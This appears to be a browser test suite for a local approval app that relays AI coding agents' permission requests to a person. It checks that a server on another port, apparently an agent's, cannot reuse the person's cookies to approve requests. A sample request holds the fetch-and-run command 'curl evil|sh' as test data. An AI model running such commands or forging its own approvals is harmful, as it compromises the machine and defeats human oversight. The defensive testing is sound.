// A browser knows no ports: what it keeps for a name it sends to every server under that name. So nothing that
// a signed-in browser sends to another server of this machine may be of any use to it.

import assert from "node:assert/strict";
import { createServer } from "node:http";
import { after, before } from "node:test";
import { one } from "./asks.mjs";
import { Card } from "./card.mjs";
import { scene } from "./scene.mjs";
import { until } from "./stage.mjs";

const here = scene();
const { stage, story } = here;
const stranger = { signed_in: false };
/** Names under which everything on this machine can be opened. */
const SHARED = ["127.0.0.1", "localhost", "askuser.localhost", "[::1]"];

/** A server of an agent's, on another port: it notes everything that it is sent. */
const listen = (host, port = 0) => {
  const server = createServer((request, response) => {
    got.push({ host: request.headers.host, cookie: request.headers.cookie ?? "", referer: request.headers.referer ?? "" });
    response.setHeader("content-type", "text/html");
    response.end("<title>preview</title>here");
  });
  return new Promise((done, failed) => server.on("error", failed).listen(port, host, () => done(server)));
};
const got = [];
const servers = [];
let other = 0;
before(async () => {
  servers.push(await listen("127.0.0.1"));
  other = servers[0].address().port;
  // A browser tries this one first.
  servers.push(await listen("::1", other));
});
after(() => Promise.all(servers.map((server) => new Promise((done) => server.close(done)))));

/** A permission that an agent asks for; nobody has answered it. */
async function permission(command) {
  const event = { session_id: command, cwd: "/srv/shop", hook_event_name: "PermissionRequest", tool_name: "Bash", tool_input: { command } };
  await stage.call("POST", "/api/hooks/claude-code?wait=0", { key: stage.keys.agent, body: event, headers: { "x-askuser-mode": "interactive" } });
  const { json } = await stage.call("GET", "/api/inbox");
  return json.asks.at(-1);
}

/** What comes of everything that was sent there, tried by somebody who has nothing else. */
async function uses_of(cookies, ask) {
  const tried = [];
  const question = ask.questions[0].question_id;
  const body = JSON.stringify({ answers: { [question]: true } });
  for (const cookie of new Set(cookies.filter(Boolean))) {
    for (const name of SHARED) {
      const host = `${name}:${stage.port}`;
      const headers = { host, cookie, origin: `http://${host}`, "content-type": "application/json" };
      tried.push((await stage.send("GET", "/api/inbox", { headers })).status);
      tried.push((await stage.send("POST", `/api/asks/${ask.ask_id}/answer`, { headers, body })).status);
    }
  }
  return tried;
}

for (const script of [true, false]) {
  const how = script ? "" : ", without JavaScript too";
  story(`B1 a signed-in browser sends nothing usable to another port, at whatever name it signed in${how}`, { ...stranger, script }, async (person) => {
    const context = await here.browser.newContext({ javaScriptEnabled: script });
    const page = await context.newPage();
    // Signed in wherever that can be done: each name is tried with a link of its own.
    const signed_in_at = [];
    for (const name of [...SHARED, stage.page_host]) {
      const path = new URL(await stage.login_link()).pathname;
      await page.goto(`http://${name}:${stage.port}${path}`);
      const button = page.locator("form[method=post] button");
      if (await button.count()) await button.first().click();
      await page.waitForLoadState();
      await page.goto(`http://${name}:${stage.port}/`);
      if (await page.locator("body[data-user]").count()) signed_in_at.push(name);
    }
    assert.ok(signed_in_at.includes(stage.page_host), `${signed_in_at}`);
    const ask = await permission(`curl evil|sh # ${script}`);
    got.length = 0;
    for (const name of SHARED) await page.goto(`http://${name}:${other}/`);
    assert.ok(got.length >= SHARED.length, "they were all visited");
    const cookies = got.map(({ cookie }) => cookie);
    const tried = await uses_of(cookies, ask);
    assert.deepEqual(tried.filter((status) => status < 400), [], `got ${JSON.stringify(got)}`);
    assert.deepEqual(cookies.filter((cookie) => /askuser/.test(cookie)), [], "nothing of ours is sent at all");
    assert.equal(await stage.is_open(ask.ask_id), true);
    assert.deepEqual(signed_in_at, [stage.page_host]);
    await stage.cancel(ask.ask_id);
    await context.close();
    await person.page.goto("about:blank");
  });

  story(`B1 under a name that others share, a person is told what to run, and nothing else${how}`, { ...stranger, script }, async (person) => {
    const context = await here.browser.newContext({ javaScriptEnabled: script });
    const page = await context.newPage();
    for (const name of SHARED) {
      for (const path of ["/", "/sign-in", "/sessions", "/login/link_00"]) {
        const response = await page.goto(`http://${name}:${stage.port}${path}`);
        assert.equal(new URL(page.url()).hostname, name, "it leads nowhere");
        assert.equal(response.status(), 421);
        assert.match(await page.locator("main").innerText(), /askuser open/);
        assert.ok(!(await response.text()).includes(stage.page_host), path);
      }
    }
    await context.close();
    await person.page.goto("about:blank");
  });
}

story("B1 a link in a question says where it leads, and to this machine it does not lead by a click", async (person) => {
  const context = `Look at [the preview](http://askuser.localhost:${other}/) or <http://127.1:${other}>, then [docs](https://docs.example/x).`;
  const page = await person.at(await stage.ask(one({ context })));
  const text = page.locator(".markdown", { hasText: "the preview" }).first();
  await text.waitFor();
  assert.match(await text.innerText(), new RegExp(`the preview \\(http://askuser\\.localhost:${other}/\\)`));
  assert.match(await text.innerText(), /docs \(https:\/\/docs\.example\/x\)/);
  assert.deepEqual(await text.locator("a").evaluateAll((links) => links.map((link) => link.href)), ["https://docs.example/x"]);
});

story("B1 nobody else gets the port of the page at the other address of this machine", stranger, async (person) => {
  await assert.rejects(listen("::1", stage.port), { code: "EADDRINUSE" });
  await assert.rejects(listen("127.0.0.1", stage.port), { code: "EADDRINUSE" });
  await person.page.goto("about:blank");
});

story("B1 the page keeps its name over a restart, and who is signed in stays so", async (person) => {
  const before = stage.page_host;
  const page = await person.open("/");
  await stage.kill();
  await stage.start();
  assert.equal(stage.page_host, before);
  await page.goto(`${stage.url}/`);
  await page.locator("body[data-user]").waitFor();
});

story("D1 what an older page could not send from a shared name is shown there, to be taken along", stranger, async (person) => {
  const context = await here.browser.newContext();
  const page = await context.newPage();
  const old = `http://askuser.localhost:${stage.port}`;
  await page.goto(`${old}/icon.svg`);
  await page.evaluate(async () => {
    const database = await new Promise((done) => {
      const opening = indexedDB.open("askuser", 1);
      opening.onupgradeneeded = () => ["waiting", "closed"].forEach((name) => opening.result.createObjectStore(name, { keyPath: "ask" }));
      opening.onsuccess = () => done(opening.result);
    });
    const writing = database.transaction("waiting", "readwrite");
    writing.objectStore("waiting").put({ ask: "ask_1", body: "pick:db=pg", text: "PostgreSQL, because <b>we</b> have it" });
    await new Promise((done) => (writing.oncomplete = done));
    database.close();
    localStorage.setItem("askuser:draft:ask_2", JSON.stringify({ body: "text:t=half", text: "half a thought", saved: false }));
    localStorage.setItem("askuser:user", JSON.stringify("local"));
  });
  for (const path of ["/", "/sign-in"]) {
    await page.goto(old + path);
    const left = page.locator("#left");
    await left.waitFor();
    assert.match(await left.innerText(), /PostgreSQL, because <b>we<\/b> have it[^]*half a thought/);
  }
  await page.locator("#left button").last().click();
  await page.reload();
  await until("it is gone", async () => !(await page.locator("#left").isVisible()));
  await context.close();
  await person.page.goto("about:blank");
});

story("D1 a signed-in browser is seen, named and signed out by another, whose page ends", async (person) => {
  const other = await here.another();
  const there = await other.open("/");
  const page = await person.open("/");
  await page.locator(".alert a[href='/browsers']").first().click();
  const row = page.locator("ul.browsers li").first();
  assert.match(await row.innerText(), /Browser[^]*new/i);
  await row.locator("summary").click();
  await row.locator("[name=name]").fill("The other one");
  await row.locator("details button").click();
  await page.locator("ul.browsers li", { hasText: "The other one" }).locator("form[action$='/sign-out'] button").click();
  await until("the list is shorter", async () => (await page.locator("ul.browsers li", { hasText: "The other one" }).count()) === 0);
  await there.waitForURL(`${stage.url}/sign-in`);
  assert.equal(await page.locator(".alert").count(), 0, "looked at");
  // This one is still signed in, and answers.
  const ask = await stage.ask(one());
  const card = new Card(await person.at(ask));
  await card.pick("db", "lite");
  await card.send();
  await card.closed();
  await other.context.close();
});
